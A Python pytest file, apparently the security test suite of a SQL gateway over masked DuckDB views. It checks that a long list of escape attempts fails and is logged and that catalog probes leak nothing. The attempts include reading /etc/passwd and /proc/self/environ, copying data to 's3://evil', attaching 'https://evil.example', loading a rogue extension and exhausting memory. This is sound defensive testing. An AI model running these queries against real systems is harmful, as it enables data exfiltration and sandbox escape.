"""What somebody may try who has nothing but SQL over a view: each attempt by its name, and its record."""

import json
import re

import pytest

from tests.views.world import SECRET, Desk

REFUSED = {
    "read a file of the gateway's": "SELECT * FROM read_csv('/etc/passwd')",
    "read a file as text": "SELECT * FROM read_text('/etc/passwd')",
    "read bytes of a process": "SELECT * FROM read_blob('/proc/self/environ')",
    "read memory by its name in /proc": "SELECT * FROM read_blob('/proc/self/mem')",
    "read a file by its name alone": "SELECT * FROM '/etc/passwd'",
    "read Parquet by a pattern": "SELECT * FROM read_parquet('/**/*.parquet')",
    "read JSON": "SELECT * FROM read_json('/etc/os-release')",
    "see which files there are": "SELECT * FROM glob('/**')",
    "sniff a file": "SELECT * FROM sniff_csv('/etc/passwd')",
    "ask for a file's Parquet schema": "SELECT * FROM parquet_schema('/tmp/x.parquet')",
    "write a file": "COPY masked TO '/tmp/escaped.csv'",
    "write the whole database": "EXPORT DATABASE '/tmp/escaped'",
    "read a database back": "IMPORT DATABASE '/tmp/escaped'",
    "open another database": "ATTACH '/var/lib/nomoat/state.db'",
    "open one in memory": "ATTACH ':memory:' AS other",
    "open one over the network": "ATTACH 'https://evil.example/x.db'",
    "go to another database": "USE system",
    "fetch from the network": "SELECT * FROM read_csv('https://evil.example/x.csv')",
    "send to the network": "COPY (SELECT * FROM masked) TO 's3://evil/x.parquet'",
    "install an extension": "INSTALL httpfs",
    "install one from elsewhere": "INSTALL x FROM 'https://evil.example'",
    "load an extension": "LOAD httpfs",
    "load a library": "LOAD '/tmp/evil.duckdb_extension'",
    "update extensions": "UPDATE EXTENSIONS",
    "set a setting": "SET enable_external_access = true",
    "set it for all": "SET GLOBAL enable_external_access = true",
    "unlock the settings": "SET lock_configuration = false",
    "give itself memory": "SET memory_limit = '1TB'",
    "reset a setting": "RESET enable_external_access",
    "set by a pragma": "PRAGMA threads=64",
    "ask by a pragma": "PRAGMA database_list",
    "call a table function": "CALL pragma_version()",
    "make a secret": "CREATE SECRET (TYPE s3, KEY_ID 'a', SECRET 'b')",
    "make a table": "CREATE TABLE mine AS SELECT 1",
    "make a macro": "CREATE MACRO masked() AS TABLE SELECT 1",
    "change the view": "UPDATE masked SET plan = 'x'",
    "take the view away": "DROP TABLE masked",
    "open a transaction": "BEGIN",
    "run two statements": "SELECT 1; SELECT 2",
    "hide one behind a comment": "SELECT 1 /* ; */; SET threads = 64",
    "run none": "",
    "run none in a comment": "/* SELECT 1 */",
    "prepare": "PREPARE p AS SELECT * FROM masked",
    "execute": "EXECUTE p",
    "leave out a value": "SELECT * FROM masked WHERE plan = ?",
    "run what a text says": "SELECT * FROM query('SET threads = 64')",
    "read a file by what a text says": "SELECT * FROM query_table('/etc/passwd')",
    "set in a text": "SELECT * FROM query('SELECT 1; SELECT 2')",
    "ask for the environment": "SELECT getenv('HOME')",
    "ask for the rows before the masks": "SELECT * FROM source",
    "ask for what was passed in": "SELECT * FROM __view",
    "ask for another view": "SELECT * FROM marketing",
    "ask for a dropped column": "SELECT phone FROM masked",
    "ask for a column of the filter": "SELECT country FROM masked",
    "explain by running": "EXPLAIN ANALYZE SELECT * FROM masked",
    "a result without end": "SELECT * FROM range(1000000000000)",
    "a huge value": "SELECT repeat('x', 4000000000)",
    "many large values": "SELECT repeat('x', 1000000) FROM range(1000)",
    "take all memory": "SELECT count(DISTINCT a.range * 4294967296 + b.range) FROM range(100000) a, range(10000) b",
    "take memory in one list": "SELECT list(a.range::VARCHAR || repeat('x', 1000)) FROM range(100000000) a",
    "recurse without end": "SELECT " + "(" * 5000 + "1" + ")" * 5000,
}
EMPTY_HANDED = {
    "list views": "SELECT * FROM duckdb_views() WHERE NOT internal",
    "list the definitions of all views": "SELECT sql FROM duckdb_views()",
    "list tables": "SELECT * FROM duckdb_tables()",
    "list columns": "SELECT * FROM duckdb_columns() WHERE NOT internal",
    "list settings": "SELECT name, value FROM duckdb_settings()",
    "list secrets": "SELECT * FROM duckdb_secrets()",
    "list databases": "SELECT * FROM duckdb_databases()",
    "list macros": "SELECT * FROM duckdb_functions() WHERE NOT internal",
    "list what is in memory": "SELECT * FROM duckdb_memory()",
    "list prepared statements": "SELECT * FROM duckdb_prepared_statements()",
    "list variables": "SELECT * FROM duckdb_variables()",
    "list temporary files": "SELECT * FROM duckdb_temporary_files()",
    "list logs": "SELECT * FROM duckdb_logs()",
    "ask the standard schema for tables": "SELECT * FROM information_schema.tables",
    "ask the standard schema for columns": "SELECT * FROM information_schema.columns",
    "ask for definitions as PostgreSQL has them": "SELECT * FROM pg_catalog.pg_views",
    "ask for the master table": "SELECT * FROM sqlite_master",
    "ask for the statistics": "SELECT * FROM pragma_storage_info('masked')",
    "ask for the table's make": "SELECT * FROM pragma_table_info('masked')",
    "summarize": "SUMMARIZE masked",
    "ask for row ids": "SELECT rowid, * FROM masked ORDER BY rowid",
    "ask for one setting": "SELECT current_setting('secret_directory')",
}
NOT_THERE = (
    SECRET,
    "phone",
    "country",
    "+49 30",
    "1911",
    "parquet'",
    "pseudonym",
    "churn",
    "/nomoat",
    "/root",
    "/home",
)


@pytest.mark.parametrize("attempt", REFUSED)
def test_it_does_not_work_and_is_recorded(desk: Desk, attempt: str) -> None:
    said = desk.query(REFUSED[attempt])
    assert said.code == 1, said.out[:500]
    assert said.out == ""
    error = json.loads(said.err)
    assert "root:" not in said.err
    opening, shown = desk.newest()
    assert opening["n"] == error["record"]
    assert opening["asked"] == {"sql": REFUSED[attempt]}
    assert opening["who"]["name"] == "scientist"  # type: ignore[index]  # JSON
    assert re.search(r'"outcome": "failed"', json.dumps(shown))
    assert re.search(r'"why": "(statement|sql|memory|rows|bytes|time|no answer)"', json.dumps(shown)), shown


@pytest.mark.parametrize("attempt", EMPTY_HANDED)
def test_it_finds_nothing_that_is_not_in_the_view(desk: Desk, attempt: str) -> None:
    said = desk.query(EMPTY_HANDED[attempt])
    found = said.out + said.err
    assert [each for each in NOT_THERE if each in found] == []
    assert desk.newest()[0]["asked"] == {"sql": EMPTY_HANDED[attempt]}


def test_the_query_after_them_all_is_answered(desk: Desk) -> None:
    assert desk.rows("SELECT count(*) FROM masked")
